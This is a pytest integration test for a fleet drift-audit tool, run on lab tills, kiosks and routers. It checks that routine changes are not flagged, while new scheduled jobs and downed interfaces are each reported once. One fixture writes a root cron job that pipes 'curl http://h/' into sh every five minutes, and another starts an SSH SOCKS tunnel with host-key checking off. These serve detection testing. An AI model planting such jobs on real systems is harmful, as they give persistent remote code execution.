"""What everyday life leaves behind is no drift; what somebody schedules or switches off is told, once each."""

from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager

import pytest
from own_lab import own_lab, storefleet

from storefleet.lab.lab import Lab

pytestmark = pytest.mark.lab
MERGED = "/var/lib/docker/overlay2/x/merged"
OFF = ("S0001-pos2", "S0002-kiosk1")

FILTER = """nft -f - <<'X'
table inet shop {
 set seen {
  type ipv4_addr
  flags timeout
 }
 counter asked {
 }
 chain in {
  type filter hook input priority 0
  ip saddr @seen counter name asked
  counter
 }
}
X"""
DAY_ONE = {
    "S0001-pos1": (
        FILTER,
        "sysctl -w net.ipv6.conf.eth0.use_tempaddr=2",
        "ip address add fd00:aa::11/64 dev eth0 mngtmpaddr valid_lft 3600 preferred_lft 1800",
    ),
    "S0002-pos1": (
        "ip link add lane1 type veth peer name scanner",
        "ip address add 192.168.77.1/24 dev lane1 && ip link set lane1 up && ip link set scanner up",
    ),
}
EVERYDAY = {
    "S0001-pos1": (
        "nft add element inet shop seen '{ 10.0.0.10 timeout 1h }'",
        "ip address del fd00:aa::11/64 dev eth0",
        "ip address add fd00:aa::11/64 dev eth0 mngtmpaddr valid_lft 7200 preferred_lft 1800",
        "ip address change 10.100.1.11/24 dev eth0 valid_lft 3600 preferred_lft 3600",
        "ip link add veth1a2b3c4 type veth peer name veth4c3b2a1 && ip link set veth1a2b3c4 up",
        f"mkdir -p {MERGED} && nsenter -t 1 -m mount -t tmpfs tmpfs {MERGED}",
        "apt-get update",
        "journalctl --rotate",
        "systemctl start systemd-tmpfiles-clean modprobe@fuse",
        "touch /run/reboot-required",
    ),
    "S0002-pos3": ("hostnamectl", "timedatectl", "systemd-run --on-active=1h --unit=later true"),
    "S0003-router": ("vtysh -c 'show ip route'", "journalctl --rotate"),
}
SWITCHED_OFF = {
    ("S0001-router", "ip link set port-kiosk1 down"): {"/network/interfaces/port-kiosk1": "manual"},
    ("S0002-router", "vtysh -c 'configure terminal' -c 'interface port-kiosk1' -c shutdown"): {
        "interface port-kiosk1 / shutdown": "unsaved"
    },
    ("S0002-pos1", "ip link set lane1 down"): {"/network/interfaces/lane1": "manual"},
}
UNIT = "printf '[Service]\\nExecStart=/bin/true\\n' >/etc/systemd/system/help.service"
TIMER = "printf '[Timer]\\nOnCalendar=hourly\\n[Install]\\nWantedBy=timers.target\\n' >/etc/systemd/system/help.timer"
SCHEDULED = {
    ("S0003-pos1", "echo '*/5 * * * * root curl -su joe:c4n4ry http://h/ | sh' >/etc/cron.d/help"): {
        '/security/jobs[/etc/cron.d/help,"*/5 * * * *",]': "manual"
    },
    ("S0003-kiosk1", "mkdir -p /var/spool/cron/crontabs && echo '@reboot /bin/true' | crontab -"): {
        "/security/jobs[/var/spool/cron/crontabs/root,@reboot,]": "manual"
    },
    ("S0003-pos2", f"{UNIT} && {TIMER} && systemctl daemon-reload && systemctl enable --now help.timer"): {
        "/services/help.service": "manual",
        "/services/help.timer": "manual",
    },
    ("S0003-router", "printf '#!/bin/sh\\n' >/etc/cron.daily/help && chmod 755 /etc/cron.daily/help"): {
        "/security/jobs[/etc/cron.daily/help,daily,]": "manual"
    },
}


OURS = """\
- hosts: role=till
  gather_facts: false
  tasks:
    - cron: {name: sync, cron_file: sync, user: root, job: /bin/true, minute: "7"}
"""


@pytest.fixture
def lab(lab_or_skip: None) -> Iterator[Lab]:
    """Give a lab of its own: nobody mends what is done here."""
    yield from own_lab("cron")


def night(lab: Lab) -> dict[tuple[str, str], dict]:
    """Audit, and return what differs from what was approved; a host that is off makes the audit incomplete."""
    done = storefleet(lab, "audit")
    assert done.returncode in (0, 1, 3), done.stderr
    assert "no snapshots" not in done.stderr
    done = storefleet(lab, "drift", "all", "--format", "json")
    assert done.returncode in (0, 1, 3), done.stderr
    found = [one for store in json.loads(done.stdout)["stores"] for one in store["differences"]]
    told = {(one["host"], one["key"]): one for one in found}
    assert len(told) == len(found)
    return told


def seen(lab: Lab, *hosts: str) -> dict[str, dict]:
    done = storefleet(lab, "collect", "-l", ",".join(hosts), "--format", "json")
    return {document["host"]: document for document in json.loads(done.stdout)["documents"]}


def do(lab: Lab, host: str, *scripts: str) -> None:
    for script in scripts:
        done = lab.enter(host, ["sh", "-c", script])
        assert done.returncode == 0, f"{host}: {script}: {done.stderr}"


@contextmanager
def left_running(lab: Lab, host: str, script: str) -> Iterator[None]:
    """Leave a person's program running on a device until the end of the block."""
    do(lab, host, f"({script}) </dev/null >/tmp/left.log 2>&1 & echo $! >/tmp/left.pid")
    yield
    do(lab, host, "kill $(cat /tmp/left.pid); rm -f /tmp/left.pid /tmp/left.log")


@contextmanager
def logged_in(lab: Lab, *words: str) -> Iterator[None]:
    """Keep a person logged in from head office for the length of the block."""
    key = lab.place.keys / "kiosk"
    options = ["-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-i", str(key)]
    log = f"ssh {' '.join(options)} {' '.join(words)} </dev/null >/dev/null 2>&1 & echo $!"
    pid = lab.exec(["sh", "-c", log]).stdout.strip()
    yield
    lab.exec(["kill", pid])


def an_everyday_night(lab: Lab) -> None:
    """Devices off, people at work, leases, sets, containers, caches: all of it is there, and none of it is drift."""
    for host in OFF:
        lab.power_cut(host)
    for host, scripts in EVERYDAY.items():
        do(lab, host, *scripts)
    tunnel = "exec ssh -N -D 127.0.0.1:1080 -o StrictHostKeyChecking=no -i /root/k sf-shell@10.100.1.1"
    copied = (lab.place.keys / "router-shell").read_text()
    do(lab, "S0001-pos1", f"umask 077; cat >/root/k <<'X'\n{copied}\nX")
    with ExitStack() as people:
        people.enter_context(left_running(lab, "S0001-pos1", tunnel))
        people.enter_context(left_running(lab, "S0003-kiosk1", "exec tftp -g -r x -l /dev/null 10.9.9.9"))
        people.enter_context(logged_in(lab, "root@10.100.1.61", "'sleep 600; true'"))
        told = night(lab)
        everyday_is_there(seen(lab, "S0001-pos1", "S0001-router", "S0001-kiosk1", "S0003-kiosk1"))
        assert told == {}


def everyday_is_there(documents: dict[str, dict]) -> None:
    """Hold what the devices show against what was done: a night of which nothing is seen proves nothing."""
    till, router, kiosk = (documents[host] for host in ("S0001-pos1", "S0001-router", "S0003-kiosk1"))
    assert router["network"]["interfaces"]["port-pos2"]["link_up"] is False
    links = till["network"]["interfaces"]
    assert {"veth1a2b3c4", "veth4c3b2a1"} <= links.keys()
    assert set(links["eth0"]["temporary"]) < set(links["eth0"]["addresses"])
    assert ("127.0.0.1", 1080, "ssh") in {
        (one["address"], one["port"], one["process"]) for one in till["ports"]["listening"]
    }
    assert MERGED in {one["mount"] for one in till["hardware"]["storage"]}
    assert till["system"]["reboot_required"] is True
    assert documents["S0001-kiosk1"]["services"].keys() >= {"sleep", "sh"}
    assert any(one["proto"] == "udp" and one["port"] >= 32768 for one in kiosk["ports"]["listening"])


def a_quiet_morning(lab: Lab) -> None:
    """Power comes back, every kind of device starts anew, people go home."""
    do(
        lab,
        "S0001-pos1",
        f"nsenter -t 1 -m umount {MERGED}; ip link del veth1a2b3c4; rm /root/k /run/reboot-required",
    )
    for host in OFF:
        lab.plug_in(host)
    for host in ("S0003-pos2", "S0003-kiosk1", "S0002-router"):
        lab.power_cut(host)
        lab.plug_in(host)
    lab.wait_until_answering([device.name for device in lab.plan.devices])
    assert night(lab) == {}


def told_once(
    lab: Lab, done: dict[tuple[str, str], dict[str, str]], ours: dict[tuple[str, str], str] | None = None
) -> None:
    for host, script in done:
        do(lab, host, script)
    expected = {(host, key): cause for (host, _), keys in done.items() for key, cause in keys.items()}
    expected |= ours or {}
    told = night(lab)
    assert {name: one["class"] for name, one in told.items()} == expected
    assert "c4n4ry" not in json.dumps(list(told.values()))


def test_everyday_life_is_no_drift_and_what_is_scheduled_or_switched_off_is_told_once(lab: Lab) -> None:
    for host, scripts in DAY_ONE.items():
        do(lab, host, *scripts)
    night(lab)
    accept = ("drift", "accept", "all", "--as-found", "--reason")
    assert storefleet(lab, *accept, "day one").returncode == 0
    an_everyday_night(lab)
    a_quiet_morning(lab)
    (lab.place.fleet / "playbooks" / "ours.yaml").write_text(OURS)
    pushed = storefleet(lab, "push", "ours.yaml", "-l", "S0002-pos3", "--yes")
    assert pushed.returncode in (0, 1), pushed.stdout + pushed.stderr
    ours = {("S0002-pos3", '/security/jobs[/etc/cron.d/sync,"7 * * * *",]'): "ours"}
    told_once(lab, SCHEDULED, ours)
    do(lab, "S0003-pos1", "sed -i s,http,https, /etc/cron.d/help")
    changed = night(lab)
    assert len(changed) == len(ours) + sum(map(len, SCHEDULED.values())), (
        "another command at the same place is the same difference"
    )
    assert storefleet(lab, *accept, "all of it is right").returncode == 0
    do(lab, "S0003-pos1", "sed -i 's/joe:c4n4ry/joe:0th3r/' /etc/cron.d/help")
    (one,) = night(lab).values()
    assert one["key"] == '/security/jobs[/etc/cron.d/help,"*/5 * * * *",]'
    assert storefleet(lab, *accept, "another password").returncode == 0
    told_once(lab, SWITCHED_OFF)
